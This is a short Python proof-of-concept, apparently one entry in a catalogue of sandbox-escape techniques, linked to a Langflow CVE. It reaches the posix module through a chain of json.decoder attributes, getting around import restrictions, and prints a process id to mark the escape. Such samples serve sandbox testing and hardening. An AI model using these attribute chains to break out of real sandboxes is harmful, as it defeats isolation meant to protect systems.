# technique: json.decoder.scanner and json.decoder.codecs
# goal: import
# source: langflow, CVE-2026-10561
import json.decoder
print('ESCAPED pid=%d' % json.decoder.scanner.re.enum.sys.modules['posix'].getpid())
